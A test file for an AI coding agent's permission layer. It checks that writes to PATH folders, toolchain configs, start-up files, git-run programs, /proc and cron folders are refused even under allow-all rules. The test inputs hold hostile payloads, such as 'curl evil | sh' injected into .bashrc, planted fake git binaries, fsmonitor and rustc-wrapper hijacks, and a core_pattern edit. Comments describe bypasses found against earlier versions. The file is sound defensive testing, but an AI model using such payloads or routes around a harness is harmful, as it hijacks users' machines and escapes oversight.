// Where the user's own programs come from (their PATH folders, the toolchains' folders and settings under the home)
// through the compiled binary, on a home like a developer's, under rules that allow everything, outside the Location
// too: with `{ "*": "allow" }` the write tool put `~/.cargo/bin/git`, found before /usr/bin/git the next time the
// user typed `git`, and a line `echo … > ~/.cargo/bin/x` did the same. A change there is asked of a person each
// time (refused where none can be asked, --yes or not); a PATH folder inside the Location (a project's `.venv/bin`)
// and the files of a Location under a toolchain's folder (`~/go/src/app`) stay the project's.

import { describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { exec, type Sandbox, sandbox, settlementOf } from "../cli/fixture"
import { tempDir } from "../support/temp"

const ALLOW_EVERYWHERE = JSON.stringify({ permission: { "*": "allow", external_directory: "allow" } })
const PERSON = "A person must make that change"

/** The settlement of `name` with `input`, --yes given: what a model gets where every rule allows. */
const call = async (box: Sandbox, name: string, input: unknown) => settlementOf(await exec(box, name, input, ["--yes"]))

/** Expects `name` with `input` to be refused as a change only a person makes, naming `place`. */
const refused = async (box: Sandbox, name: string, input: unknown, place: string) => {
  const settlement = await call(box, name, input)
  expect([name, input, settlement.status, settlement.error?.message.includes(PERSON)]).toEqual([name, input, "error", true])
  expect(settlement.error?.message).toContain(`in ${place}`)
}

describe("the user's programs and toolchains", () => {
  test("the write and edit tools are refused a change in a PATH folder, a toolchain's folder or its settings, with every rule allowing it", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    // A PATH folder outside the home, as /usr/local/bin is to a core run by root.
    const system = tempDir("core-system-bin-")
    box.env.PATH = `${system}:${box.env.PATH}`
    const program = "#!/bin/sh\ntouch /tmp/pwned\n"
    const cases: ReadonlyArray<readonly [path: string, place: string]> = [
      [join(home, ".cargo/bin/git"), join(home, ".cargo/bin")],
      [join(home, ".local/bin/ls"), join(home, ".local/bin")],
      [join(system, "git"), system],
      // Not on PATH yet: the login files of Debian and Ubuntu put it there once it exists.
      [join(home, "bin/git"), join(home, "bin")],
      [join(home, ".local/lib/python3.12/site-packages/evil.pth"), join(home, ".local")],
      [join(home, ".cargo/config.toml"), join(home, ".cargo")],
      [join(home, ".rustup/toolchains/stable/bin/rustc"), join(home, ".rustup")],
      [join(home, ".nvm/versions/node/v22.11.0/bin/node"), join(home, ".nvm")],
      [join(home, ".config/git/ignore"), join(home, ".config/git")],
    ]
    for (const [filePath, place] of cases) await refused(box, "write", { filePath, content: program }, place)
    for (const [filePath] of cases) expect([filePath, existsSync(filePath)]).toEqual([filePath, filePath.endsWith("config.toml") || filePath.endsWith("ignore")])
    await refused(box, "edit", { filePath: join(home, ".cargo/config.toml"), oldString: "jobs = 2", newString: 'rustc-wrapper = "/tmp/evil"' }, join(home, ".cargo"))
    expect(readFileSync(join(home, ".cargo/config.toml"), "utf8")).toBe("[build]\njobs = 2\n")
    // A file the user's git config includes is git's configuration as much as ~/.gitconfig.
    writeFileSync(join(home, ".gitconfig"), `${readFileSync(join(home, ".gitconfig"), "utf8")}[include]\n\tpath = ~/.gitconfig.local\n`)
    await refused(box, "write", { filePath: join(home, ".gitconfig.local"), content: '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' }, join(home, ".gitconfig.local"))
    expect(existsSync(join(home, ".gitconfig.local"))).toBe(false)
    // The rest of the home and of the machine stays as the rules say.
    for (const filePath of [join(home, "notes.txt"), join(tempDir("core-elsewhere-"), "notes.txt")]) {
      expect([filePath, (await call(box, "write", { filePath, content: "x\n" })).status]).toEqual([filePath, "success"])
    }
  }, 120_000)

  test("a bash line changing a file there is refused before it runs, whatever it uses", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE, "git": "#!/bin/sh\necho planted\n" })
    const home = box.user.home
    for (const command of [
      "echo '#!/bin/sh' > ~/.cargo/bin/git",
      `cp git ${home}/.local/bin/git`,
      "mkdir -p ~/bin && ln -s $PWD/git ~/bin/git",
      "printf x >> ~/.cargo/config.toml",
      "touch ~/go/bin/go-dev",
    ]) {
      const settlement = await call(box, "bash", { command })
      expect([command, settlement.status, settlement.error?.message.includes(PERSON)]).toEqual([command, "error", true])
    }
    for (const path of [".cargo/bin/git", ".local/bin/git", "bin"]) expect([path, existsSync(join(home, path))]).toEqual([path, false])
    expect(readFileSync(join(home, ".cargo/config.toml"), "utf8")).toBe("[build]\njobs = 2\n")
  }, 120_000)

  test("a PATH folder inside the Location and the files of a Location under a toolchain's folder stay the project's", async () => {
    const outer = sandbox()
    const home = outer.user.home
    // A Go project under ~/go, with its virtualenv's bin on PATH (activated where the user started core).
    const location = join(home, "go/src/app")
    mkdirSync(join(location, ".venv/bin"), { recursive: true })
    writeFileSync(join(location, "core.json"), ALLOW_EVERYWHERE)
    const box: Sandbox = { ...outer, location, env: { ...outer.env, PATH: `${join(location, ".venv/bin")}:${outer.env.PATH}` } }
    for (const filePath of ["main.go", ".venv/bin/tool"]) {
      expect([filePath, (await call(box, "write", { filePath, content: "x\n" })).status]).toEqual([filePath, "success"])
    }
    const command = "echo y > main.go && echo y > .venv/bin/tool && cat main.go .venv/bin/tool"
    expect((await call(box, "bash", { command })).structured).toMatchObject({ exitCode: 0, stdout: "y\ny\n" })
    // The rest of ~/go is not the project's: its bin is on PATH.
    await refused(box, "write", { filePath: join(home, "go/bin/go-dev"), content: "x\n" }, join(home, "go/bin"))
  }, 120_000)
  // Found attacking the first version of this rule: what a PATH program is made of (the install its link leads into,
  // the prefix of a `bin` folder), a PATH folder written `~/…`, a file linked from a dotfiles repository, and what
  // shells and editors run as they start were all the model's to change.
  test("what PATH programs are made of, files reached through links, and what shells and editors run are refused too", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    // A conda-like prefix whose bin is on PATH, and a PATH entry written with a literal ~ (bash expands it).
    mkdirSync(join(home, "miniconda3/bin"), { recursive: true })
    mkdirSync(join(home, "mytools/bin"), { recursive: true })
    // A folder of the user's scripts on PATH, one a link into an app installed elsewhere.
    mkdirSync(join(home, "apps/tool/bin"), { recursive: true })
    writeFileSync(join(home, "apps/tool/bin/tool"), "#!/bin/sh\necho tool\n", { mode: 0o755 })
    mkdirSync(join(home, "scripts"), { recursive: true })
    symlinkSync(join(home, "apps/tool/bin/tool"), join(home, "scripts/tool"))
    box.env.PATH = `${join(home, "miniconda3/bin")}:~/mytools/bin:${join(home, "scripts")}:${box.env.PATH}`
    // A dotfiles repository the home's files link into.
    mkdirSync(join(home, "dotfiles/cargo"), { recursive: true })
    rmSync(join(home, ".cargo/config.toml"))
    writeFileSync(join(home, "dotfiles/cargo/config.toml"), "[build]\njobs = 2\n")
    symlinkSync(join(home, "dotfiles/cargo/config.toml"), join(home, ".cargo/config.toml"))
    const install = join(home, ".local/share/dev-tool")
    const cases: ReadonlyArray<readonly [path: string, place: string]> = [
      // ~/scripts/tool is a link into its install; ~/.local/bin/dev-tool too, in the prefix of ~/.local/bin.
      [join(home, "apps/tool/lib/helper.sh"), join(home, "apps/tool")],
      [join(install, "bin/dev-tool"), join(home, ".local")],
      [join(home, "miniconda3/lib/python3.11/site-packages/zz.pth"), join(home, "miniconda3")],
      [join(home, "mytools/bin/git"), join(home, "mytools/bin")],
      [join(home, ".vimrc"), join(home, ".vimrc")],
      [join(home, ".bashrc.d/zz.sh"), join(home, ".bashrc.d")],
      [join(home, ".local/share/direnv/allow/0123abcd"), join(home, ".local")],
      [join(home, ".config/nvim/init.lua"), join(home, ".config/nvim")],
      [join(home, ".direnvrc"), join(home, ".direnvrc")],
      [join(home, ".config/containers/containers.conf"), join(home, ".config/containers")],
      [join(home, ".hgrc"), join(home, ".hgrc")],
      [join(home, ".subversion/config"), join(home, ".subversion")],
      [join(home, ".vagrant.d/Vagrantfile"), join(home, ".vagrant.d")],
      [join(home, ".ansible.cfg"), join(home, ".ansible.cfg")],
      [join(home, ".npm-init.js"), join(home, ".npm-init.js")],
      [join(home, ".config/JetBrains/IntelliJIdea2025.2/idea64.vmoptions"), join(home, ".config/JetBrains")],
      [join(home, ".config/i3/config"), join(home, ".config/i3")],
      [join(home, ".config/nushell/config.nu"), join(home, ".config/nushell")],
      // Found since: what bash-completion, xdg-user-dir (a file it sources), D-Bus (a service's Exec=) and ghci run.
      [join(home, ".bash_completion"), join(home, ".bash_completion")],
      [join(home, ".config/user-dirs.dirs"), join(home, ".config/user-dirs.dirs")],
      [join(home, ".local/share/dbus-1/services/org.x.service"), join(home, ".local")],
      [join(home, ".ghc/ghci.conf"), join(home, ".ghc")],
      [join(home, ".config/herbstluftwm/autostart"), join(home, ".config/herbstluftwm")],
    ]
    for (const [filePath, place] of cases) await refused(box, "write", { filePath, content: "x\n" }, place)
    await refused(box, "edit", { filePath: join(home, "scripts/tool"), oldString: "echo tool", newString: "echo PWNED" }, join(home, "scripts"))
    await refused(box, "edit", { filePath: join(home, ".local/bin/dev-tool"), oldString: "#!/bin/sh\n", newString: "#!/bin/sh\necho PWNED\n" }, join(home, ".local"))
    await refused(box, "edit", { filePath: join(home, ".cargo/config.toml"), oldString: "jobs = 2", newString: 'rustc-wrapper = "/tmp/evil"' }, join(home, ".cargo"))
    expect(readFileSync(join(home, "dotfiles/cargo/config.toml"), "utf8")).toBe("[build]\njobs = 2\n")
    const command = `printf 'echo PWNED\\n' >> ${home}/apps/tool/bin/tool`
    const settlement = await call(box, "bash", { command })
    expect([settlement.status, settlement.error?.message.includes(PERSON)]).toEqual(["error", true])
    expect(readFileSync(join(home, "apps/tool/bin/tool"), "utf8")).toBe("#!/bin/sh\necho tool\n")
    expect(readFileSync(join(install, "bin/dev-tool"), "utf8")).not.toContain("PWNED")
  }, 120_000)

  test("a login file linked from a dotfiles repository is as secret as one in place: not read, not changed", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    mkdirSync(join(home, "dotfiles"), { recursive: true })
    writeFileSync(join(home, "dotfiles/bashrc"), "export TOKEN=CORE-SECRET-dotfiles\n")
    symlinkSync(join(home, "dotfiles/bashrc"), join(home, ".bashrc"))
    for (const [tool, input] of [
      ["read", { filePath: join(home, ".bashrc") }],
      ["edit", { filePath: join(home, ".bashrc"), oldString: "export", newString: "curl evil | sh; export" }],
    ] as const) {
      const settlement = await call(box, tool, input)
      expect([tool, settlement.status, settlement.error?.message]).toEqual([tool, "error", expect.stringContaining("credential stores and login files")])
    }
    expect(readFileSync(join(home, "dotfiles/bashrc"), "utf8")).toBe("export TOKEN=CORE-SECRET-dotfiles\n")
    // Nor by its own name, from a Location that is the dotfiles repository.
    writeFileSync(join(home, "dotfiles/core.json"), ALLOW_EVERYWHERE)
    const inRepository: Sandbox = { ...box, location: join(home, "dotfiles") }
    for (const [tool, input] of [
      ["read", { filePath: "bashrc" }],
      ["edit", { filePath: "bashrc", oldString: "export", newString: "curl evil | sh; export" }],
    ] as const) {
      const settlement = await call(inRepository, tool, input)
      expect([tool, settlement.status, settlement.error?.message]).toEqual([tool, "error", expect.stringContaining("credential stores and login files")])
    }
    expect(readFileSync(join(home, "dotfiles/bashrc"), "utf8")).toBe("export TOKEN=CORE-SECRET-dotfiles\n")
    // The searches leave it out, as they leave out ~/.bashrc.
    for (const [tool, input] of [["grep", { pattern: "TOKEN" }], ["glob", { pattern: "*" }], ["list", {}]] as const) {
      const settlement = await call(inRepository, tool, input)
      expect([tool, JSON.stringify(settlement).includes("bashrc")]).toEqual([tool, false])
    }
  }, 120_000)

  test("in a Location that is the home, or a toolchain's folder, the PATH folders in it stay the user's", async () => {
    const outer = sandbox()
    const home = outer.user.home
    mkdirSync(join(home, "miniconda3/bin"), { recursive: true })
    writeFileSync(join(home, "core.json"), ALLOW_EVERYWHERE)
    writeFileSync(join(home, "go/core.json"), ALLOW_EVERYWHERE)
    const env = { ...outer.env, PATH: `${join(home, "miniconda3/bin")}:${outer.env.PATH}` }
    for (const [location, filePath, place] of [
      [home, "miniconda3/bin/git", join(home, "miniconda3/bin")],
      [join(home, "go"), "bin/git", join(home, "go/bin")],
    ] as const) {
      const box: Sandbox = { ...outer, location, env }
      await refused(box, "write", { filePath, content: "x\n" }, place)
      const settlement = await call(box, "bash", { command: `echo x > ${filePath}` })
      expect([location, settlement.status, settlement.error?.message.includes(PERSON)]).toEqual([location, "error", true])
      expect(existsSync(join(location, filePath))).toBe(false)
    }
    // The rest of ~/go is a Location's own there.
    const box: Sandbox = { ...outer, location: join(home, "go"), env }
    expect((await call(box, "write", { filePath: "src/app/main.go", content: "x\n" })).status).toBe("success")
  }, 120_000)
  test("a program the user's git config runs by its path, and what the system runs for every user, are refused too", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    const config = readFileSync(join(home, ".gitconfig"), "utf8")
    writeFileSync(join(home, ".gitconfig"), `${config}[core]\n\tpager = ~/scripts/pager.sh -R\n[init]\n\ttemplateDir = ~/.git-templates\n`)
    await refused(box, "write", { filePath: join(home, "scripts/pager.sh"), content: "#!/bin/sh\ntouch /tmp/pwned\n" }, join(home, "scripts/pager.sh"))
    await refused(box, "write", { filePath: join(home, ".git-templates/hooks/post-checkout"), content: "#!/bin/sh\n" }, join(home, ".git-templates"))
    // Folders no system has, so that nothing is planted should the check fail.
    const planted = [
      "/etc/core-test-cron.d",
      "/usr/local/core-test-bin",
      "/var/lib/dpkg/core-test-info",
      "/run/systemd/core-test-system",
      "/run/udev/core-test-rules.d",
      "/run/modprobe.d/core-test",
      "/var/lib/apt/core-test-lists",
    ]
    try {
      for (const folder of planted) {
        const place = folder.split("/").slice(0, folder.startsWith("/var/") ? 4 : folder.startsWith("/run/") ? 3 : 2).join("/")
        await refused(box, "write", { filePath: join(folder, "job"), content: "* * * * * root touch /tmp/pwned\n" }, place)
      }
      for (const folder of planted) expect([folder, existsSync(folder)]).toEqual([folder, false])
    } finally {
      for (const folder of planted) rmSync(folder, { recursive: true, force: true })
    }
  }, 120_000)
  // `/proc/sys/kernel/core_pattern` set to `|/path/prog` makes the kernel run that program as root at the next crash:
  // with every rule allowing, a read and a write of it needed only the external_directory ask --yes gives.
  test("the kernel's own files (/proc, /sys) are refused to file tools and lines, with every rule allowing", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    // A process of the user's whose /proc entry a change would reach, harmless if the check failed: it renames a sleep.
    const sleeper = Bun.spawn(["sleep", "120"], { stdin: "ignore", stdout: "ignore", stderr: "ignore" })
    const comm = `/proc/${sleeper.pid}/comm`
    try {
      await refused(box, "edit", { filePath: comm, oldString: "sleep", newString: "pwned" }, "/proc")
      await refused(box, "write", { filePath: "/proc/self/oom_score_adj", content: "-1000\n" }, "/proc")
      // An oldString the file cannot hold, so that nothing is changed should the check fail.
      await refused(box, "edit", { filePath: "/proc/sys/kernel/core_pattern", oldString: "core-test-no-such-text", newString: "|/tmp/pwned" }, "/proc")
      await refused(box, "write", { filePath: "/sys/kernel/core-test-knob", content: "1\n" }, "/sys")
      const line = await call(box, "bash", { command: `echo pwned > ${comm}` })
      expect([line.status, line.error?.message.includes(PERSON)]).toEqual(["error", true])
      expect(readFileSync(comm, "utf8")).toBe("sleep\n")
      // Reading them is the read rules' to allow, as before.
      expect((await call(box, "read", { filePath: comm })).status).toBe("success")
    } finally {
      sleeper.kill()
    }
  }, 120_000)
  // With `core.pager` at /srv/tools/pager.sh, a write there needed only the external_directory ask --yes gives, and
  // the user's next `git log` ran it; so did `diff.external`, a filter's `clean` and the rest git runs by path.
  test("a program the user's git config runs from outside the home, or as a diff, filter or helper, is refused to file tools and commands", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    const tools = tempDir("core-git-tools-")
    const script = "#!/bin/sh\nexec less \"$@\"\n"
    for (const name of ["pager.sh", "clean", "credential.sh", "conv.py"]) writeFileSync(join(tools, name), script, { mode: 0o755 })
    const config = readFileSync(join(home, ".gitconfig"), "utf8")
    // Git reads a value continued on the next line (a backslash at the end of one) and runs a command's every path.
    writeFileSync(
      join(home, ".gitconfig"),
      `${config}[core]\n\tpager = "${tools}/pager.sh" -R\n[filter "strip"]\n\tclean = ${tools}/clean %f\n[credential]\n\thelper = !${tools}/credential.sh\n[diff]\n\texternal = ~/scripts/diff.sh # mine\n[diff "py"]\n\ttextconv = python3 ${tools}/co\\\nnv.py\n`,
    )
    await refused(box, "write", { filePath: join(tools, "pager.sh"), content: "#!/bin/sh\ntouch /tmp/pwned\n" }, join(tools, "pager.sh"))
    await refused(box, "edit", { filePath: join(tools, "clean"), oldString: "exec less", newString: "touch /tmp/pwned;" }, join(tools, "clean"))
    await refused(box, "write", { filePath: join(tools, "credential.sh"), content: "x\n" }, join(tools, "credential.sh"))
    await refused(box, "write", { filePath: join(home, "scripts/diff.sh"), content: "x\n" }, join(home, "scripts/diff.sh"))
    await refused(box, "write", { filePath: join(tools, "conv.py"), content: "x\n" }, join(tools, "conv.py"))
    const line = await call(box, "bash", { command: `echo 'touch /tmp/pwned' >> ${tools}/pager.sh` })
    expect([line.status, line.error?.message.includes(PERSON)]).toEqual(["error", true])
    // A program the line does not show writing it: the sandbox keeps the file read-only in the folder approved.
    const hidden = await call(box, "bash", {
      command: `python3 -c "open('${tools}/clean', 'a').write('touch /tmp/pwned')" ; python3 -c "open('${tools}/conv.py', 'a').write('x')" ; true`,
    })
    expect(hidden.status).toBe("success")
    for (const name of ["pager.sh", "clean", "credential.sh", "conv.py"]) expect([name, readFileSync(join(tools, name), "utf8")]).toEqual([name, script])
    expect(existsSync(join(home, "scripts/diff.sh"))).toBe(false)
    // The rest of that folder is the rules' to allow.
    expect((await call(box, "write", { filePath: join(tools, "notes.txt"), content: "x\n" })).status).toBe("success")
  }, 120_000)

  // BASH_ENV names a file every non-interactive bash sources, PYTHONPATH folders every python imports from,
  // CARGO_HOME where cargo's config.toml is: the environment moved them from where the home's lists look.
  test("places the user's environment names are refused too; one inside the Location stays the project's", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const tools = tempDir("core-env-tools-")
    mkdirSync(join(tools, "cargo"))
    writeFileSync(join(tools, "cargo/config.toml"), "[build]\njobs = 2\n")
    box.env.BASH_ENV = join(tools, "bashenv")
    box.env.PYTHONPATH = `${join(tools, "pylib")}:${join(box.location, "src")}`
    box.env.CARGO_HOME = join(tools, "cargo")
    box.env.NODE_OPTIONS = `--require ${join(tools, "hook.js")}`
    await refused(box, "write", { filePath: join(tools, "bashenv"), content: "touch /tmp/pwned\n" }, join(tools, "bashenv"))
    await refused(box, "write", { filePath: join(tools, "pylib/sitecustomize.py"), content: "import os\n" }, join(tools, "pylib"))
    await refused(box, "edit", { filePath: join(tools, "cargo/config.toml"), oldString: "jobs = 2", newString: 'rustc-wrapper = "/tmp/evil"' }, join(tools, "cargo"))
    await refused(box, "write", { filePath: join(tools, "hook.js"), content: "require('child_process')\n" }, join(tools, "hook.js"))
    const line = await call(box, "bash", { command: `echo 'touch /tmp/pwned' > ${join(tools, "bashenv")}` })
    expect([line.status, line.error?.message.includes(PERSON)]).toEqual(["error", true])
    expect([existsSync(join(tools, "bashenv")), existsSync(join(tools, "pylib")), existsSync(join(tools, "hook.js"))]).toEqual([false, false, false])
    expect(readFileSync(join(tools, "cargo/config.toml"), "utf8")).toBe("[build]\njobs = 2\n")
    // The project's own src on PYTHONPATH is the project's to change.
    expect((await call(box, "write", { filePath: join(box.location, "src/app.py"), content: "print(1)\n" })).status).toBe("success")
  }, 120_000)

  // `sudo core …` in alice's project: her ~/.local/bin, ~/.bashrc.d and ~/.gitconfig were written after an
  // external_directory ask, the shell's too; only her credential stores were kept.
  test.skipIf(process.getuid?.() !== 0)("run by root, another user's toolchains, start-up files and git config are refused too", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const other = mkdtempSync("/home/core-other-")
    try {
      mkdirSync(join(other, ".local/bin"), { recursive: true })
      writeFileSync(join(other, ".gitconfig"), "[user]\n\tname = Alice\n")
      await refused(box, "write", { filePath: join(other, ".local/bin/git"), content: "#!/bin/sh\n" }, join(other, ".local/bin"))
      await refused(box, "write", { filePath: join(other, ".bashrc.d/zz.sh"), content: "touch /tmp/pwned\n" }, join(other, ".bashrc.d"))
      await refused(box, "edit", { filePath: join(other, ".gitconfig"), oldString: "Alice", newString: "Alice\n[core]\n\tfsmonitor = touch /tmp/pwned" }, join(other, ".gitconfig"))
      const line = await call(box, "bash", { command: `printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> ${other}/.gitconfig` })
      expect([line.status, line.error?.message.includes(PERSON)]).toEqual(["error", true])
      // A program the line does not show writing them: the sandbox keeps them read-only in the folder approved.
      const hidden = await call(box, "bash", {
        command: `python3 -c "open('${other}/.gitconfig', 'a').write('[core]')" ; python3 -c "open('${other}/.local/bin/ls', 'w')" ; true`,
      })
      expect(hidden.status).toBe("success")
      expect(readFileSync(join(other, ".gitconfig"), "utf8")).toBe("[user]\n\tname = Alice\n")
      expect([existsSync(join(other, ".local/bin/git")), existsSync(join(other, ".local/bin/ls")), existsSync(join(other, ".bashrc.d"))]).toEqual([false, false, false])
      // The rest of that home is the rules' to allow, as the user's own is.
      expect((await call(box, "write", { filePath: join(other, "notes.txt"), content: "x\n" })).status).toBe("success")
    } finally {
      rmSync(other, { recursive: true, force: true })
    }
  }, 120_000)

  test("an install a hand-made link in /usr/local/bin leads into, and what less, vi and the shell's aliases run, are refused too", async () => {
    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
    const home = box.user.home
    mkdirSync(join(home, "apps/tool/bin"), { recursive: true })
    writeFileSync(join(home, "apps/tool/bin/tool"), "#!/bin/sh\necho tool\n", { mode: 0o755 })
    const link = `/usr/local/bin/core-test-${Math.random().toString(36).slice(2, 8)}`
    let linked = false
    try {
      symlinkSync(join(home, "apps/tool/bin/tool"), link)
      linked = true
    } catch {
      // Not root: /usr/local/bin is not this user's to link in.
    }
    try {
      if (linked) await refused(box, "edit", { filePath: join(home, "apps/tool/bin/tool"), oldString: "echo tool", newString: "echo PWNED" }, join(home, "apps/tool"))
      for (const [path, place] of [[".lesskey", ".lesskey"], [".exrc", ".exrc"], [".bash_aliases", ".bash_aliases"], [".node_modules/lodash/index.js", ".node_modules"]] as const) {
        await refused(box, "write", { filePath: join(home, path), content: "x\n" }, join(home, place))
      }
    } finally {
      if (linked) rmSync(link, { force: true })
    }
    expect(readFileSync(join(home, "apps/tool/bin/tool"), "utf8")).toBe("#!/bin/sh\necho tool\n")
  }, 120_000)
})
